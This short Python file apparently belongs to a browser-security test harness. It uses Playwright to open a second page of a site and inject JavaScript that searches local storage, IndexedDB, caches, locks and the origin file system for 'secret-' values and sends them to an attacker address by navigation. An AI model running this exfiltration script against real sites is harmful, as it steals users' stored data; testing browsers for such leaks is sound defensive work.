"""The second half of what is left in the browser: another page of the site, in which the attacker's code runs too."""

from playwright.sync_api import BrowserContext

# Finds what the first page left, again and again, and sends it as even a page with our headers can that links to other
# sites: by leading itself to the attacker, whose "no content" keeps it where it is.
_SEND = """address => {
  const found = new Set();
  const channel = new BroadcastChannel("left");
  channel.onmessage = ({ data }) => found.add(data);
  const look = async () => {
    for (const name of Object.keys(localStorage)) found.add(name);
    for (const { name } of await indexedDB.databases()) found.add(name);
    for (const name of await caches.keys()) found.add(name);
    for (const { name } of (await navigator.locks.query()).held) found.add(name);
    for await (const name of (await navigator.storage.getDirectory()).keys()) found.add(name);
    const secrets = [...found].filter(each => each.includes("secret-"));
    if (secrets.length) location.href = `${address}/left?${secrets.join(",")}`;
  };
  setInterval(look, 300);
}"""


def find(context: BrowserContext, second: str, attacker: str) -> None:
    """Open the second page, to whose host cookies go of themselves, and send what is found from there.

    The page stays open, to hear what the first still says.
    """
    page = context.new_page()
    page.goto(second)
    page.evaluate(_SEND, attacker)
